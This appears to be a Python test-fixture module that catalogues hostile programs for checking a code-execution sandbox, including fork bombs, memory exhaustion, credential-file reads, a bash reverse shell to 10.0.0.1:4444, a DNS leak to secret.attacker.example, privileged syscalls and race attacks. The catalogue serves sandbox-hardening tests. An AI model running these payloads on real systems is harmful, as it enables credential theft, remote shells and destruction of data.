# ruff: noqa: E501 - programs keep their lines
"""Hostile programs, and what containing each of them means.

Every snippet prints `BREACH …` when it got what it must not get. `told` is an attempt the kernel must have
reported: kind, a part of the target; always refused. `classes` are the failure classes that are right.
A program that never ends by itself, so that `timeout` is among its classes, is stopped soon; all others end,
however busy the machine is, and their deadline is there in case they hang.
`{canary}` is a file of the host, `{port}` a TCP port on which the host listens, `{abstract}` its abstract socket, `{host_pid}` the host process.
"""

from __future__ import annotations

from dataclasses import dataclass
from textwrap import dedent

_CALL = """
    import ctypes, errno, os
    libc = ctypes.CDLL(None, use_errno=True)
    def call(number, *args):
        result = libc.syscall(ctypes.c_long(number), *[
            ctypes.c_long(a) if isinstance(a, int) else a for a in args])
        return result, ctypes.get_errno()
"""


_ENDLESS_S = 1.0
_HANGS_S = 120.0


@dataclass(frozen=True)
class Hostile:
    """One program; see the module's text."""

    name: str
    source: str
    told: tuple[str, str] | None = None
    classes: frozenset[str] = frozenset()
    language: str = "python"
    timeout_s: float = _HANGS_S


def _one(
    name: str,
    source: str,
    told: tuple[str, str] | None = None,
    classes: str = "",
    language: str = "python",
    timeout_s: float | None = None,
) -> Hostile:
    ends = frozenset(classes.split())
    if timeout_s is None:
        timeout_s = _ENDLESS_S if "timeout" in ends else _HANGS_S
    return Hostile(name, dedent(source).strip() + "\n", told, ends, language, timeout_s)


def _syscall(name: str, number: int, args: str = "", told: tuple[str, str] | None = None) -> Hostile:
    body = """
    result, error = call(@CALL)
    if result != -1: print("BREACH", result)
    raise OSError(error, "refused")
    """
    wanted = "unsafe_operation" if told else ""
    text = dedent(_CALL) + dedent(body).replace("@CALL", f"{number}, {args}" if args else str(number))
    return _one(name, text, told, wanted)


_CPU_AND_MEMORY = [
    _one("endless loop", "while True: pass", classes="timeout"),
    _one(
        "endless loop that catches everything",
        """
        while True:
            try:
                while True: pass
            except BaseException: pass
        """,
        classes="timeout",
    ),
    _one("sleep past the deadline", "import time; time.sleep(100)", classes="timeout"),
    _one(
        "endless C loop without the interpreter",
        "(1 << 10**9).__str__(); 9**9**9",
        classes="timeout exception out_of_memory",
    ),
    _one(
        "catastrophic regular expression", "import re; re.match('(a+)+$', 'a' * 64 + 'b')", classes="timeout"
    ),
    _one(
        "ignoring every signal",
        """
        import signal, time
        for n in range(1, 65):
            try: signal.signal(n, signal.SIG_IGN)
            except (OSError, ValueError): pass
        while True: time.sleep(0.1)
        """,
        classes="timeout",
    ),
    _one("waiting for input that never comes", "import select; select.select([], [], [])", classes="timeout"),
    _one(
        "a thousand threads",
        """
        import threading, time
        started = 0
        try:
            for _ in range(1000):
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start(); started += 1
        except RuntimeError: pass
        if started > 200: print("BREACH", started)
        import os; os._exit(3)
        """,
        classes="exception",
    ),
    _one(
        "memory by appending",
        "x = []\nwhile True: x.append(bytearray(1000000))",
        classes="out_of_memory",
    ),
    _one("memory in one piece", "x = bytearray(10**12)", classes="out_of_memory"),
    _one("memory by doubling a string", "x = 'x'\nwhile True: x += x", classes="out_of_memory"),
    _one(
        "memory by children",
        """
        import os, time
        for _ in range(40):
            if os.fork() == 0:
                x = bytearray(60_000_000); time.sleep(30); os._exit(0)
        time.sleep(30)
        """,
        classes="out_of_memory",
    ),
    _one(
        "memory by anonymous mapping",
        """
        import mmap
        x = [mmap.mmap(-1, 50_000_000) for _ in range(100)]
        for m in x: m.write(b"x" * 50_000_000)
        print("BREACH")
        """,
        classes="out_of_memory exception",
    ),
    _one(
        "memory by shared memory files",
        """
        import os
        for i in range(100):
            with open(f"/dev/shm/{i}", "wb") as f: f.write(b"x" * 10_000_000)
        print("BREACH")
        """,
        classes="exception",
    ),
    _one("memory by memfd", "import os; os.memfd_create('x'); print('BREACH')", classes="exception"),
    _one(
        "stack overflow in C",
        "import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
        classes="killed out_of_memory exception timeout",
    ),
    _one(
        "locking memory",
        """
        import ctypes
        libc = ctypes.CDLL(None); b = ctypes.create_string_buffer(50_000_000)
        if libc.mlock(b, 50_000_000) == 0: print("BREACH")
        """,
        classes="ok",
    ),
]

_PROCESSES = [
    _one("fork bomb", "import os\nwhile True: os.fork()", classes="exception timeout"),
    _one(
        "fork bomb that ignores errors",
        """
        import os
        while True:
            try: os.fork()
            except OSError: pass
        """,
        classes="timeout",
    ),
    _one(
        "fork bomb in bash",
        "bomb() { bomb | bomb & }; bomb; sleep 5",
        classes="ok exception timeout",
        language="bash",
    ),
    _one(
        "a daemon that outlives the run",
        """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sleep", ["survivor-marker", "1000"])
            os._exit(0)
        os.wait()
        """,
        classes="ok",
    ),
    _one("nohup in bash", "nohup setsid sleep 1000 > /dev/null 2>&1 &", classes="ok", language="bash"),
    _one(
        "a child that holds the pipes open",
        """
        import os, time
        if os.fork() == 0: time.sleep(1000)
        print("parent ends")
        """,
        classes="ok",
    ),
    _one("killing the slot", "import os; os.kill(1, 9)", ("privilege", "kill"), "unsafe_operation"),
    _one(
        "killing the parent",
        "import os; os.kill(os.getppid(), 15)",
        ("privilege", "kill"),
        "unsafe_operation",
    ),
    _one("killing everything", "import os; os.kill(-1, 9); print('still here')", classes="ok exception"),
    _one(
        "killing the host process",
        """
        import os
        try: os.kill({host_pid}, 9); print("BREACH")
        except ProcessLookupError: pass
        """,
        classes="ok",
    ),
    _one(
        "signals to the slot by other ways",
        dedent(_CALL)
        + dedent("""
        import signal
        for s in (2, 9, 15, 19, 34):
            fd, _ = call(434, 1, 0)
            if fd >= 0: call(424, fd, s, None, 0)
            call(129, 1, s, ctypes.create_string_buffer(128))
        """),
        classes="ok",
    ),
    _one(
        "slowing the slot down",
        """
        import os
        try: os.setpriority(os.PRIO_PROCESS, 1, 19); print("BREACH")
        except OSError: pass
        try: os.sched_setaffinity(1, {0}); print("BREACH")
        except OSError: pass
        import resource
        resource.prlimit(1, resource.RLIMIT_NOFILE, (1, 1)); print("BREACH")
        """,
        ("privilege", "prlimit64"),
        "unsafe_operation",
    ),
    _one(
        "raising own limits",
        """
        import resource
        resource.setrlimit(resource.RLIMIT_NPROC, (10000, 10000)); print("BREACH")
        """,
        classes="exception",
    ),
    _one(
        "exec of a program that is not there",
        "import os; os.execv('/opt/evil', ['x'])",
        ("process", "/opt/evil"),
    ),
]

_OUTPUT_AND_DISK = [
    _one("flood of stdout", "while True: print('x' * 1000)", classes="output_limit"),
    _one(
        "flood of stderr",
        "import os\nwhile True: os.write(2, b'x' * 65536)",
        classes="output_limit",
    ),
    _one("flood from bash", "yes", classes="output_limit", language="bash"),
    _one("a full disk", "f = open('x', 'wb')\nwhile True: f.write(b'x' * 1000000)", classes="exception"),
    _one(
        "a disk full of small files",
        """
        for i in range(1000): open(f"f{i}", "wb").write(b"x" * 100_000)
        print("BREACH")
        """,
        classes="exception",
    ),
    _one(
        "a million inodes",
        """
        import os
        for i in range(1_000_000): os.mkdir(f"d{i}")
        print("BREACH")
        """,
        classes="exception timeout",
        timeout_s=6,
    ),
    _one(
        "a sparse file beyond the limit",
        "f = open('x', 'wb'); f.truncate(10**12); print('BREACH')",
        classes="exception",
    ),
    _one(
        "a deep directory",
        """
        import os
        for i in range(3000): os.mkdir("d"); os.chdir("d")
        """,
        classes="ok exception timeout permission_denied",
    ),
    _one(
        "all descriptors",
        """
        import os
        held = []
        try:
            while True: held.append(os.open("/dev/null", 0))
        except OSError: pass
        if len(held) > 300: print("BREACH", len(held))
        """,
        classes="ok",
    ),
    _one(
        "output that is not text", "import sys; sys.stdout.buffer.write(bytes(range(256)) * 10)", classes="ok"
    ),
]

_FILES = [
    _one(
        "reading the host's canary",
        "print('BREACH', open('{canary}').read())",
        classes="exception permission_denied",
    ),
    _one(
        "reading /etc/shadow",
        "print('BREACH', open('/etc/shadow').read())",
        ("file", "/etc/shadow"),
        "permission_denied",
    ),
    _one(
        "reading /etc/passwd",
        "print('BREACH', open('/etc/passwd').read())",
        ("file", "/etc/passwd"),
        "permission_denied",
    ),
    _one(
        "listing homes",
        "import os; print('BREACH', os.listdir('/root'))",
        ("file", "/root"),
        "permission_denied",
    ),
    _one(
        "a name looked up by bash",
        "exec 3<>/dev/tcp/collect.example/80 && echo BREACH; exit 1",
        ("network", "collect.example"),
        "permission_denied",
        "bash",
    ),
    _one(
        "reading ssh keys",
        "print('BREACH', open('/root/.ssh/id_rsa').read())",
        ("file", "/root/.ssh/id_rsa"),
        "permission_denied",
    ),
    _one(
        "reading cloud credentials",
        "print('BREACH', open('/home/agent/.aws/credentials').read())",
        ("file", "/home/agent/.aws/credentials"),
        "permission_denied",
    ),
    _one(
        "cat in bash", "cat /etc/shadow && echo BREACH", ("file", "/etc/shadow"), "permission_denied", "bash"
    ),
    _one(
        "the slot's environment",
        "print('BREACH', open('/proc/1/environ').read())",
        ("file", "/proc/1/environ"),
        "permission_denied",
    ),
    _one(
        "the slot's memory",
        "open('/proc/1/mem', 'rb').read(1); print('BREACH')",
        ("file", "/proc/1/mem"),
        "permission_denied",
    ),
    _one(
        "the slot's descriptors",
        "import os; print('BREACH', os.listdir('/proc/1/fd'))",
        ("file", "/proc/1/fd"),
        "permission_denied",
    ),
    _one(
        "the host's root through /proc",
        "print('BREACH', open('/proc/1/root/etc/shadow').read())",
        ("file", "/etc/shadow"),
        "permission_denied",
    ),
    _one(
        "own root through /proc",
        "print('BREACH', open('/proc/self/root/etc/shadow').read())",
        ("file", "/etc/shadow"),
        "permission_denied",
    ),
    _one(
        "climbing out by dots",
        "print('BREACH', open('../' * 40 + 'etc/shadow').read())",
        ("file", "/etc/shadow"),
        "permission_denied",
    ),
    _one(
        "a link out of the box",
        """
        import os
        os.symlink("/etc/shadow", "link"); print("BREACH", open("link").read())
        """,
        ("file", "etc/shadow"),
        "permission_denied",
    ),
    _one(
        "a link to the host's canary left behind", "import os; os.symlink('{canary}', 'left')", classes="ok"
    ),
    _one(
        "writing outside",
        "open('/usr/evil', 'w').write('x'); print('BREACH')",
        ("file", "/usr/evil"),
        "permission_denied",
    ),
    _one(
        "writing into the interpreter",
        "import os; open(os.__file__, 'a').write('x'); print('BREACH')",
        ("file", "os.py"),
        "permission_denied",
    ),
    _one(
        "writing /etc",
        "open('/etc/resolv.conf', 'w').write('x'); print('BREACH')",
        ("file", "/etc/resolv.conf"),
        "permission_denied",
    ),
    _one(
        "deleting the system",
        "import os; os.unlink('/usr/bin/env'); print('BREACH')",
        ("file", "/usr/bin/env"),
        "permission_denied",
    ),
    _one(
        "rm -rf in bash",
        "rm -rf --no-preserve-root /usr/local /etc 2>/dev/null; ls /usr/bin/env > /dev/null || echo BREACH; exit 1",
        ("file", "/usr/local"),
        "permission_denied",
        "bash",
    ),
    _one(
        "changing modes",
        "import os; os.chmod('/usr/bin/env', 0o777); print('BREACH')",
        ("file", "/usr/bin/env"),
        "permission_denied",
    ),
    _one("a raw disk", "open('/dev/sda', 'rb'); print('BREACH')", ("file", "/dev/sda"), "permission_denied"),
    _one(
        "physical memory",
        "open('/dev/mem', 'rb'); print('BREACH')",
        ("file", "/dev/mem"),
        "permission_denied",
    ),
    _one(
        "kernel settings",
        "open('/proc/sys/kernel/core_pattern', 'w').write('|/x'); print('BREACH')",
        ("file", "core_pattern"),
        "permission_denied",
    ),
    _one(
        "sysrq",
        "open('/proc/sysrq-trigger', 'w').write('b'); print('BREACH')",
        ("file", "sysrq"),
        "permission_denied",
    ),
    _one(
        "its own protection from the memory killer",
        "open('/proc/self/oom_score_adj', 'w').write('-1000'); print('BREACH')",
        ("file", "oom_score_adj"),
        "permission_denied",
    ),
    _one(
        "the docker socket",
        """
        import socket
        s = socket.socket(socket.AF_UNIX); s.connect("/var/run/docker.sock"); print("BREACH")
        """,
        ("file", "docker.sock"),
        "permission_denied",
    ),
    _one(
        "a device node",
        "import os, stat; os.mknod('disk', stat.S_IFBLK | 0o600, os.makedev(8, 0)); print('BREACH')",
        ("privilege", "mknod"),
        "unsafe_operation",
    ),
    _one(
        "a set-user-id file",
        """
        import os, shutil
        shutil.copy("/usr/bin/id", "id"); os.chmod("id", 0o4755)
        out = os.popen("./id -u").read()
        if out.strip() == "0": print("BREACH", out)
        """,
        classes="ok",
    ),
    _one(
        "set-user-id programs of the system",
        "su -c id < /dev/null; sudo -n id; exit 1",
        None,
        "exception missing_dependency permission_denied unsafe_operation",
        "bash",
    ),
    _one(
        "the host's environment",
        """
        import os
        if any("CANARY" in key for key in os.environ): print("BREACH", dict(os.environ))
        with open("/proc/self/environ") as f:
            if "CANARY" in f.read(): print("BREACH")
        """,
        classes="ok",
    ),
    _one(
        "inherited descriptors",
        """
        import os
        for fd in range(3, 4096):
            try: where = os.readlink(f"/proc/self/fd/{fd}")
            except OSError: continue
            if "socket" not in where and fd != 900 and not where.startswith("/proc"): print("BREACH", fd, where)
        """,
        classes="ok",
    ),
    _one(
        "other processes",
        """
        import os
        seen = [p for p in os.listdir("/proc") if p.isdigit()]
        if len(seen) > 3: print("BREACH", seen)
        """,
        classes="ok",
    ),
]

_NETWORK = [
    _one(
        "a connection by address",
        "import socket; socket.create_connection(('8.8.8.8', 53), 1); print('BREACH')",
        ("network", "8.8.8.8:53"),
        "permission_denied",
    ),
    _one(
        "a connection by name",
        "import urllib.request as u; u.urlopen('http://example.com/', timeout=1); print('BREACH')",
        ("network", "example.com"),
        "permission_denied",
    ),
    _one(
        "a connection over IPv6",
        """
        import socket
        s = socket.socket(socket.AF_INET6); s.connect(("2001:4860:4860::8888", 443)); print("BREACH")
        """,
        ("network", "[2001:4860:4860::8888]:443"),
        "permission_denied",
    ),
    _one(
        "the metadata service",
        "import urllib.request as u; u.urlopen('http://169.254.169.254/latest', timeout=1); print('BREACH')",
        ("network", "169.254.169.254:80"),
        "permission_denied",
    ),
    _one(
        "a datagram",
        """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.2.3.4", 99)); print("BREACH")
        """,
        ("network", "1.2.3.4:99"),
        "permission_denied",
    ),
    _one(
        "a datagram by sendmsg",
        """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, ("1.2.3.4", 98)); print("BREACH")
        """,
        ("network", "1.2.3.4:98"),
        "permission_denied",
    ),
    _one(
        "a name leaked through DNS",
        "import socket; socket.gethostbyname('secret.attacker.example'); print('BREACH')",
        ("network", "secret.attacker.example"),
        "permission_denied",
    ),
    _one(
        "the host's loopback",
        "import socket; socket.create_connection(('127.0.0.1', {port}), 1); print('BREACH')",
        classes="exception",
    ),
    _one(
        "the host's abstract socket",
        r"""
        import socket
        s = socket.socket(socket.AF_UNIX); s.connect("\0{abstract}"); print("BREACH")
        """,
        classes="exception",
    ),
    _one(
        "a reverse shell in bash",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; exit 1",
        ("network", "10.0.0.1:4444"),
        "permission_denied",
        "bash",
    ),
    _one(
        "a raw socket",
        "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print('BREACH')",
        ("privilege", "SOCK_RAW"),
        "unsafe_operation",
    ),
    *(
        _one(
            f"a socket of family {name}",
            f"import socket; socket.socket({family}, socket.{kind}); print('BREACH')",
            ("privilege", name),
            "unsafe_operation",
        )
        for name, family, kind in (
            ("AF_PACKET", 17, "SOCK_RAW"),
            ("AF_VSOCK", 40, "SOCK_STREAM"),
            ("AF_ALG", 38, "SOCK_SEQPACKET"),
            ("AF_CAN", 29, "SOCK_RAW"),
            ("AF_BLUETOOTH", 31, "SOCK_RAW"),
            ("AF_XDP", 44, "SOCK_RAW"),
            ("AF_TIPC", 30, "SOCK_STREAM"),
        )
    ),
    _one(
        "a netlink socket",
        "import socket; socket.socket(16, socket.SOCK_RAW, 0); print('BREACH')",
        classes="exception",
    ),
]

_PRIVILEGES = [
    _one(
        "chroot", "import os; os.chroot('/box'); print('BREACH')", ("privilege", "chroot"), "unsafe_operation"
    ),
    _one(
        "becoming root",
        "import os; os.setuid(0); print('BREACH')",
        ("privilege", "setuid"),
        "unsafe_operation",
    ),
    _one(
        "a new host name",
        "import socket; socket.sethostname('evil'); print('BREACH')",
        ("privilege", "sethostname"),
        "unsafe_operation",
    ),
    _one(
        "the clock",
        "import time; time.clock_settime(time.CLOCK_REALTIME, 0); print('BREACH')",
        ("privilege", "clock_settime"),
        "unsafe_operation",
    ),
    _syscall("unshare a user namespace", 272, "0x10000000", ("privilege", "unshare")),
    _syscall("unshare a mount namespace", 272, "0x00020000", ("privilege", "unshare")),
    _syscall("clone with a user namespace", 56, "0x10000011, 0, 0, 0, 0", ("privilege", "clone")),
    _syscall("clone3", 435, "ctypes.create_string_buffer(88), 88"),
    _syscall("setns", 308, "0, 0", ("privilege", "setns")),
    _syscall("mount", 165, 'b"x", b"/box", b"tmpfs", 0, None', ("privilege", "mount")),
    _syscall("umount", 166, 'b"/box", 2', ("privilege", "umount2")),
    _syscall("pivot_root", 155, 'b".", b"."', ("privilege", "pivot_root")),
    _syscall("open_tree", 428, '-100, b"/", 1', ("privilege", "open_tree")),
    _syscall("fsopen", 430, 'b"tmpfs", 0', ("privilege", "fsopen")),
    _syscall("move_mount", 429, '-1, b"", -100, b"/box", 4', ("privilege", "move_mount")),
    _syscall("ptrace the slot", 101, "16, 1, 0, 0", ("privilege", "ptrace")),
    _syscall("read the slot's memory", 310, "1, None, 0, None, 0, 0", ("privilege", "process_vm_readv")),
    _syscall("steal the slot's descriptors", 438, "3, 0, 0", ("privilege", "pidfd_getfd")),
    _syscall("bpf", 321, "0, ctypes.create_string_buffer(128), 128", ("privilege", "bpf")),
    _syscall("userfaultfd", 323, "0", ("privilege", "userfaultfd")),
    _syscall(
        "perf_event_open",
        298,
        "ctypes.create_string_buffer(128), 0, -1, -1, 0",
        ("privilege", "perf_event_open"),
    ),
    _syscall("keyctl", 250, "0, -3, 0", ("privilege", "keyctl")),
    _syscall("add_key", 248, 'b"user", b"x", b"y", 1, -3', ("privilege", "add_key")),
    _syscall("init_module", 175, 'b"x", 1, b""', ("privilege", "init_module")),
    _syscall("kexec", 246, "0, 0, 0, 0", ("privilege", "kexec_load")),
    _syscall("reboot", 169, "0xfee1dead, 672274793, 0x1234567, 0", ("privilege", "reboot")),
    _syscall("swapon", 167, 'b"/box/x", 0', ("privilege", "swapon")),
    _syscall(
        "open by handle", 304, "-100, ctypes.create_string_buffer(64), 0", ("privilege", "open_by_handle_at")
    ),
    _syscall("io_uring", 425, "8, ctypes.create_string_buffer(256)"),
    _syscall("a filter of its own", 317, "1, 8, None", ("privilege", "seccomp")),
    _syscall("shared memory segments", 29, "0, 4096, 0o1600"),
    _syscall("message queues", 68, "0, 0o1600"),
    _syscall("kernel log", 103, "3, ctypes.create_string_buffer(64), 64", ("privilege", "syslog")),
    _syscall("an x32 call", 0x40000000 + 39, "", ("privilege", "foreign")),
    _one(
        "typing into the terminal",
        "import fcntl; fcntl.ioctl(0, 0x5412, b'x'); print('BREACH')",
        classes="exception",
    ),
    _one(
        "capabilities",
        """
        for line in open("/proc/self/status"):
            if line.startswith("Cap") and int(line.split()[1], 16): print("BREACH", line)
            if line.startswith("NoNewPrivs") and line.split()[1] != "1": print("BREACH", line)
            if line.startswith("Seccomp:") and line.split()[1] != "2": print("BREACH", line)
        """,
        classes="ok",
    ),
]

_TAMPERING = [
    _one(
        "hiding a refused call",
        """
        import os
        try: os.chroot("/")
        except BaseException: pass
        os._exit(0)
        """,
        ("privilege", "chroot"),
        "unsafe_operation",
    ),
    _one(
        "hiding memory from the meter",
        """
        import ctypes
        if ctypes.CDLL(None).prctl(4, 0, 0, 0, 0) == 0: print("BREACH")
        x = []
        while True: x.append(b"x" * 10**7)
        """,
        classes="out_of_memory",
    ),
    _one("raising a class by name", "raise PermissionError('refused by the sandbox')", classes="exception"),
    _one("raising MemoryError", "raise MemoryError", classes="exception"),
    _one("raising TimeoutError", "raise TimeoutError('timeout')", classes="exception"),
    _one(
        "printing a verdict", """print('{"failure_class": "ok"}'); raise SystemExit(3)""", classes="exception"
    ),
    _one(
        "writing frames to every descriptor",
        """
        import json, os, struct
        text = json.dumps({"kind": "raised", "token": "0" * 32, "parts": [], "raised": {"os": True}}).encode()
        for fd in range(3, 1100):
            try: os.write(fd, struct.pack("!II", len(text), 0) + text)
            except OSError: pass
        1 / 0
        """,
        classes="exception",
    ),
    _one(
        "writing rubbish to every descriptor",
        """
        import os
        for fd in range(3, 1100):
            try: os.write(fd, os.urandom(5000))
            except OSError: pass
        1 / 0
        """,
        classes="exception",
    ),
    _one(
        "a frame that promises four gigabytes",
        """
        import os
        for fd in range(3, 1100):
            try: os.write(fd, b"\\xff" * 8)
            except OSError: pass
        """,
        classes="ok",
    ),
    _one(
        "never ceasing to write to the runner's descriptor",
        """
        import json, os, struct
        text = json.dumps({"kind": "x", "parts": []}).encode()
        frames = (struct.pack("!II", len(text), 0) + text) * 100
        while True: os.write(900, frames)
        """,
        classes="timeout",
    ),
    _one(
        "a child that never ceases to write there",
        """
        import json, os, struct
        text = json.dumps({"kind": "x", "parts": []}).encode()
        frames = (struct.pack("!II", len(text), 0) + text) * 100
        if os.fork() == 0:
            while True: os.write(900, frames)
        """,
        classes="ok",
    ),
    _one(
        "a child that never ceases to print",
        """
        import os
        if os.fork() == 0:
            while True: os.write(1, b"x" * 4096)
        """,
        classes="ok output_limit",
    ),
    _one(
        "an avalanche of watched calls",
        """
        import threading
        def storm():
            while True:
                try: open("/nowhere/at/all")
                except OSError: pass
        for _ in range(20): threading.Thread(target=storm).start()
        """,
        classes="timeout",
    ),
    _one(
        "a thousand distinct attempts",
        """
        for n in range(5000):
            try: open(f"/nowhere/{n}")
            except OSError: pass
        """,
        ("file", "/nowhere/7"),
        "ok",
    ),
    _one(
        "a path of a million characters",
        """
        try: open("/" + "x" * 1_000_000)
        except OSError: pass
        """,
        classes="ok",
    ),
    _one(
        "a path that is not text",
        """
        try: open(b"/nowhere/" + bytes(range(1, 256)))
        except OSError: pass
        """,
        ("file", "/nowhere/"),
        "ok",
    ),
    _one(
        "a call with a bad pointer",
        """
        import ctypes, os
        libc = ctypes.CDLL(None)
        for number in (2, 59, 42, 46, 257):
            libc.syscall(number, ctypes.c_long(1), ctypes.c_void_p(8), ctypes.c_void_p(8), ctypes.c_long(99))
        print(os.getpid())
        """,
        classes="ok",
    ),
    _one(
        "forking while it is killed",
        """
        import os
        while True:
            try:
                if os.fork() == 0: os.setsid()
            except OSError: pass
        """,
        classes="timeout out_of_memory",
    ),
    _one("closing every descriptor", "import os; os.closerange(3, 4096); 1 / 0", classes="exception"),
    _one(
        "replacing what the runner uses",
        """
        import builtins, json, os, sys, traceback
        os._exit = lambda code: None
        os.write = json.dumps = traceback.print_exception = lambda *a, **k: None
        builtins.exec = builtins.print = builtins.isinstance = None
        sys.excepthook = None
        raise ValueError("x")
        """,
        classes="exception",
    ),
    _one(
        "an exception that fights back",
        """
        class Evil(Exception):
            def __str__(self): raise SystemExit(0)
            __repr__ = __str__
        raise Evil
        """,
        classes="exception",
    ),
    _one(
        "an exit function that hides the failure",
        "import atexit, os; atexit.register(os._exit, 0); 1 / 0",
        classes="ok exception",
    ),
    _one(
        "a hook that never returns",
        "import sys, time\nsys.excepthook = lambda *a: time.sleep(60)\n1 / 0",
        classes="timeout",
    ),
    _one(
        "frames of the runner",
        """
        import sys
        frame, depth = sys._getframe(), 0
        while frame and depth < 50:
            for name, value in list(frame.f_globals.items()):
                if "slot" in name.lower() and "jail.slot" in str(value): print("seen", name)
            frame, depth = frame.f_back, depth + 1
        """,
        classes="ok",
    ),
    _one(
        "leaving a mark for the next run",
        "open('/tmp/mark', 'w').write('x'); open('mark', 'w').write('x'); import builtins; builtins.mark = 1",
        classes="ok",
    ),
    _one(
        "finding the mark of an earlier run",
        """
        import builtins, os
        if os.path.exists("/tmp/mark") or os.path.exists("mark") or hasattr(builtins, "mark"): print("BREACH")
        """,
        classes="ok",
    ),
    _one(
        "a listener for the next run",
        """
        import os, socket
        s = socket.socket(); s.bind(("127.0.0.1", 7777)); s.listen()
        if os.fork() == 0:
            while True: s.accept()
        """,
        classes="ok",
    ),
    _one(
        "reaching an earlier run's listener",
        "import socket; socket.create_connection(('127.0.0.1', 7777), 1); print('BREACH')",
        classes="exception",
    ),
]

_RACES = [
    _one(
        "a link that changes while it is opened",
        """
        import os, threading
        open("mine", "w").write("mine"); os.symlink("mine", "a"); os.symlink("{canary}", "b")
        def flip():
            while True:
                os.replace("a", "c"); os.replace("b", "a"); os.replace("c", "b")
        threading.Thread(target=flip, daemon=True).start()
        for _ in range(300):
            try: text = open("a").read()
            except OSError: continue
            if text != "mine": print("BREACH", text)
        import os; os._exit(0)
        """,
    ),
    _one(
        "a path that changes after it was judged",
        """
        import ctypes, os, threading
        libc = ctypes.CDLL(None)
        path = ctypes.create_string_buffer(200)
        def flip():
            while True: path.value = b"/dev/null"; path.value = b"{canary}"
        threading.Thread(target=flip, daemon=True).start()
        for _ in range(300):
            fd = libc.open(path, 0)
            if fd >= 0:
                if os.read(fd, 10): print("BREACH")
                os.close(fd)
        os._exit(0)
        """,
    ),
    _one(
        "an address that changes after it was judged",
        """
        import ctypes, os, socket, struct, threading
        libc = ctypes.CDLL(None)
        def address(host, port): return struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
        buffer = ctypes.create_string_buffer(address("127.0.0.1", 9), 16)
        def flip():
            while True:
                buffer.raw = address("169.254.169.254", 80); buffer.raw = address("127.0.0.1", 9)
        threading.Thread(target=flip, daemon=True).start()
        for _ in range(200):
            s = socket.socket(); s.settimeout(0.01)
            if libc.connect(s.fileno(), buffer, 16) == 0: print("BREACH")
            s.close()
        os._exit(0)
        """,
    ),
    _one(
        "a directory that is renamed while it is walked",
        """
        import os, threading
        os.makedirs("a/b/c")
        def flip():
            while True:
                try: os.rename("a/b/c", "c"); os.rename("c", "a/b/c")
                except OSError: pass
        threading.Thread(target=flip, daemon=True).start()
        for _ in range(300):
            try:
                fd = os.open("a/b/c", os.O_RDONLY)
                outside = os.open("../../../../../../../..{canary}", os.O_RDONLY, dir_fd=fd)
                print("BREACH", os.read(outside, 100))
            except OSError: pass
        os._exit(0)
        """,
    ),
]

_WHERE_IT_CAME_FROM = [
    _one(
        "looking for what it was forked from",
        """
        import os
        seen = {name for name in os.listdir("/proc") if name.isdigit()} - {"1", str(os.getpid())}
        if seen: print("BREACH", seen)
        if os.getppid() not in (0, 1): print("BREACH", os.getppid())
        """,
        classes="ok permission_denied unsafe_operation",
    ),
    _one(
        "killing what it was forked from",
        """
        import os
        for pid in range(2, 3000):
            if pid != os.getpid():
                try: os.kill(pid, 9); print("BREACH", pid)
                except ProcessLookupError: pass
        """,
        classes="ok permission_denied unsafe_operation",
    ),
    _one(
        "signals to all it may reach",
        "import os, signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nos.kill(0, 15); os.kill(-1, 15)",
        classes="ok exception killed unsafe_operation",
    ),
    _one(
        "a process descriptor of what it was forked from",
        """
        import os, signal
        for pid in (0, 1, *range(2, 300)):
            if pid == os.getpid(): continue
            try: fd = os.pidfd_open(pid)
            except OSError: continue
            if pid != 1: print("BREACH", pid)
        """,
        classes="ok exception unsafe_operation",
    ),
    _one(
        "limits of what it was forked from",
        """
        import os, resource
        for pid in range(2, 3000):
            if pid != os.getpid():
                try: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)); print("BREACH", pid)
                except OSError: pass
        """,
        classes="ok permission_denied unsafe_operation",
    ),
    _one("the run after all that", "print('still here')", classes="ok"),
]

HOSTILE = (
    *_CPU_AND_MEMORY,
    *_PROCESSES,
    *_OUTPUT_AND_DISK,
    *_FILES,
    *_NETWORK,
    *_PRIVILEGES,
    *_TAMPERING,
    *_RACES,
    *_WHERE_IT_CAME_FROM,
)
